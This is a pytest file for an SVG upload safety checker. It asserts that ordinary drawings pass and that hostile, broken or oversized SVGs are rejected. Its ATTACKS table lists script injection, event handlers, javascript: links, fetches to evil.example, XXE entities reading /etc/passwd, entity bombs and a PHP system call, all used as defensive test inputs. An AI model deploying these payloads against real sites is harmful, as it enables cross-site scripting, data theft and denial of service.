"""SVGs: drawings pass, and everything that runs or fetches does not."""

from __future__ import annotations

import contextlib
import gzip
import time
from itertools import pairwise

import pytest

from darkroom.errors import CorruptImage, InputError, LimitExceeded, UnsafeContent
from darkroom.safety.svg import DEPTH
from darkroom.safety.validation import SVG_BYTES, Accepted, check_upload
from darkroom.settings import Limits

NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk=="


def svg(inside: str = "", attributes: str = "", before: str = "") -> bytes:
    return f"{before}<svg {NAMESPACES} {attributes}>{inside}</svg>".encode()


def check(data: bytes) -> Accepted:
    return check_upload(data, "a.svg", "image/svg+xml", len(data), Limits())


DRAWINGS = {
    "plain": svg('<rect width="9" height="9" fill="red"/>'),
    "declared": svg("<g/>", before='<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- made by hand -->\n'),
    "gradient": svg('<defs><linearGradient id="a"/></defs><rect fill="url(#a)" style="stroke: url(\'#a\')"/>'),
    "use": svg('<symbol id="s"><path d="M0 0"/></symbol><use xlink:href="#s"/><use href="#s"/>'),
    "picture inside": svg(f'<image href="{PIXEL}"/><image xlink:href=" {PIXEL} "/>'),
    "style": svg(
        "<style>/* note */ .a > b { fill: url(#g); font-family: 'x (y)' } @media print { a { fill: red } }</style>"
    ),
    "style in CDATA": svg("<style><![CDATA[.a{fill:#fff}]]></style>"),
    "notes of an editor": svg(
        '<metadata><r:RDF><r:li r:resource="http://example.org/" i:label="C:\\a (1)"/></r:RDF></metadata><i:grid/>',
        'xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:i="http://www.inkscape.org/namespaces/inkscape"',
    ),
    "without a namespace": b'<svg width="1" height="1"><rect/></svg>',
    "with a prefix": b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:rect/></s:svg>',
    "words": svg(
        '<text aria-label="on javascript and metadata: a">onload=1 &lt;script> &amp; url(http://a) @import</text>'
    ),
    "utf-16": '<?xml version="1.0" encoding="UTF-16"?>'.encode("utf-16") + svg("<g/>").decode().encode("utf-16-le"),
    "latin-1": b'<?xml version="1.0" encoding="ISO-8859-1"?>' + svg("<text>\xfc</text>").replace(b"\xc3", b""),
    "gzipped": gzip.compress(svg("<g/>")),
    "xpacket": svg('<metadata><?xpacket begin="" id="W5M0"?><?xpacket end="w"?></metadata>'),
}

ATTACKS = {
    # code
    "script": svg("<script>alert(1)</script>"),
    "script with a prefix": svg('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
    "script by address": svg('<script xlink:href="https://evil.example/a.js"/>'),
    "script of HTML": svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    "script, gzipped": gzip.compress(svg("<script>alert(1)</script>")),
    "script in UTF-16": '<?xml version="1.0" encoding="UTF-16"?>'.encode("utf-16")
    + svg("<script/>").decode().encode("utf-16-le"),
    "script deep down": svg("<g>" * 50 + "<script/>" + "</g>" * 50),
    "onload": svg(attributes='onload="alert(1)"'),
    "ONCLICK": svg('<rect OnClick="alert(1)"/>'),
    "onbegin": svg('<rect onbegin="alert(1)"/>'),
    "a handler in another namespace": svg('<rect x:onload="1" xmlns:x="urn:x"/>'),
    "handler element": svg('<handler type="text/javascript">1</handler>'),
    "listener": svg('<e:listener xmlns:e="http://www.w3.org/2001/xml-events" event="load"/>'),
    "foreignObject": svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
    "iframe": svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="#"/>'),
    "link to code": svg('<a xlink:href="javascript:alert(1)"><rect/></a>'),
    "link to code, spaced": svg('<a href=" java&#x9;script&#10;:alert(1)"/>'),
    "link to code, entities": svg('<a href="&#106;avascript:alert(1)"/>'),
    "set": svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>'),
    "animate": svg('<animate attributeName="xlink:href" values="#a;https://evil.example/"/>'),
    "data of HTML": svg('<a href="data:text/html,&lt;script>alert(1)&lt;/script>"/>'),
    "picture that is an SVG": svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
    # fetching
    "image by address": svg('<image href="https://evil.example/a.png"/>'),
    "image by any scheme": svg('<image xlink:href="//evil.example/a.png"/>'),
    "image of a local file": svg('<image xlink:href="file:///etc/passwd"/>'),
    "image by a path": svg('<image href="../secret.png"/>'),
    "use by address": svg('<use href="https://evil.example/a.svg#b"/>'),
    "feImage": svg('<filter><feImage xlink:href="https://evil.example/a"/></filter>'),
    "xml:base": svg('<use href="#a"/>', 'xml:base="https://evil.example/"'),
    "fill by address": svg('<rect fill="url(https://evil.example/a#b)"/>'),
    "fill by address, quoted": svg("<rect fill='URL( \"https://evil.example/a#b\" )'/>"),
    "style by address": svg('<rect style="fill:url(//evil.example/a)"/>'),
    "style with escapes": svg('<rect style="fill:u\\72l(//evil.example/a)"/>'),
    "fill with escapes": svg('<rect fill="u\\72l(//evil.example/a)"/>'),
    "style import": svg("<style>@import 'https://evil.example/a.css';</style>"),
    "style import with escapes": svg("<style>@\\69mport 'https://evil.example/a.css';</style>"),
    "style import by entity": svg("<style>&#64;import 'https://evil.example/a.css';</style>"),
    "style in two pieces": svg("<style>@im<!-- -->port 'https://evil.example/a.css';</style>"),
    "style with a font": svg("<style>@font-face{src:url(https://evil.example/a.woff)}</style>"),
    "style with an image set": svg("<style>a{mask:image-set('https://evil.example/a' 1x)}</style>"),
    "mask with an image set": svg("<g mask=\"-webkit-image-set('https://evil.example/a' 1x)\"/>"),
    "style of an element inside": svg("<style><g>@import 'a';</g></style>"),
    "binding": svg('<rect style="-moz-binding:url(#a)"/>'),
    "behavior": svg('<rect style="behavior:#a"/>'),
    "style sheet": svg(before='<?xml-stylesheet href="https://evil.example/a.css"?>'),
    "program": svg("<?php system('id') ?>"),
    "XInclude": svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="#" parse="text"/>'),
    # entities
    "document type": svg(before='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd">'),
    "external entity": svg("<text>&x;</text>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "parameter entity": svg(before='<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>'),
    "billion laughs": svg(
        "<text>&i;</text>",
        before='<!DOCTYPE svg [<!ENTITY a "lol">'
        + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise("abcdefghi"))
        + "]>",
    ),
    "quadratic blowup": svg("&a;" * 1000, before=f'<!DOCTYPE svg [<!ENTITY a "{"x" * 10_000}">]>'),
    "handler by default": svg(before='<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'),
    # two readers, two documents
    "utf-7": b'<?xml version="1.0" encoding="UTF-7"?>' + svg("+ADw-script/+AD4-"),
    "windows-1252": b'<?xml version="1.0" encoding="windows-1252"?>' + svg(),
    "another root": b'<svg:svg xmlns:svg="urn:other"/>',
    # size
    "nested too deep": svg("<g>" * DEPTH + "</g>" * DEPTH),
}  # fmt: skip

BROKEN = {
    "cut off": svg("<g/>")[:-4],
    "two roots": svg() + svg(),
    "unknown entity": svg("<text>&nbsp;</text>"),
    "unbound prefix": b'<svg xlink:href="#a"/>',
    "attribute twice": svg('<g id="a" id="b"/>'),
    "no end of a comment": svg("<!-- "),
    "bad bytes": svg("<text>").replace(b"<text>", b"<text>\xff\xfe</text>"),
    "gzipped and cut off": gzip.compress(svg("<g/>" * 1000))[:-9],
}


@pytest.mark.parametrize("name", DRAWINGS)
def test_drawings_pass(name: str) -> None:
    assert check(DRAWINGS[name]).media_type == "image/svg+xml"


@pytest.mark.parametrize("name", ATTACKS)
def test_attacks_do_not(name: str) -> None:
    started = time.monotonic()
    with pytest.raises(UnsafeContent, match=r"^a\.svg was not taken, as it ") as raised:
        check(ATTACKS[name])
    assert time.monotonic() - started < 2
    assert (raised.value.code, raised.value.http_status) == ("unsafe_content", 422)
    assert raised.value.message.isprintable()
    assert raised.value.cure


@pytest.mark.parametrize("name", BROKEN)
def test_what_is_no_xml_is_damaged(name: str) -> None:
    with pytest.raises(CorruptImage, match=r"^a\.svg is damaged"):
        check(BROKEN[name])


def test_size_where_it_is_stated_in_pixels() -> None:
    taken = check(svg(attributes='width="120.4" height="30px"'))
    assert (taken.width, taken.height, taken.frames) == (120, 30, 1)
    assert check(svg(attributes='width="10cm" height="100%"')).width is None
    with pytest.raises(LimitExceeded, match="the limit is 65500 to a side"):
        check(svg(attributes='width="999999999" height="1"'))


def test_it_must_be_seen_whole() -> None:
    data = svg("<g/>" * 100)
    with pytest.raises(LimitExceeded, match="that are checked"):
        check_upload(data[:300], "a.svg", None, len(data), Limits())
    with pytest.raises(CorruptImage):
        check_upload(data[:300], "a.svg", None, None, Limits())


def test_a_bomb_of_gzip_is_not_unpacked() -> None:
    data = gzip.compress(svg(" " * (SVG_BYTES + 1)))
    assert len(data) < 100_000
    with pytest.raises(LimitExceeded, match="that are checked"):
        check(data)


@pytest.mark.parametrize(
    "inside",
    [
        "<g/>" * 600_000,
        "<g " + " ".join(f'a{index}=""' for index in range(300_000)) + "/>",
        f'<rect style="{"url(" * 1_000_000}"/>',
        f'<rect style="{"url(" + " " * 5_000_000}"/>',
        f'<image href="data:image/png;base64,{"A" * 5_000_000}!"/>',
        "<style>" + "@media{}" * 500_000 + "</style>",
        "<style>" + "&#97;" * 1_000_000 + "</style>",
        f"<text>{'x' * 9_000_000}",
    ],
    ids=["elements", "attributes", "addresses", "spaces", "picture", "rules", "references", "text"],
)
def test_large_ones_are_done_in_time(inside: str) -> None:
    started = time.monotonic()
    with contextlib.suppress(InputError):
        check(svg(inside))
    assert time.monotonic() - started < 5
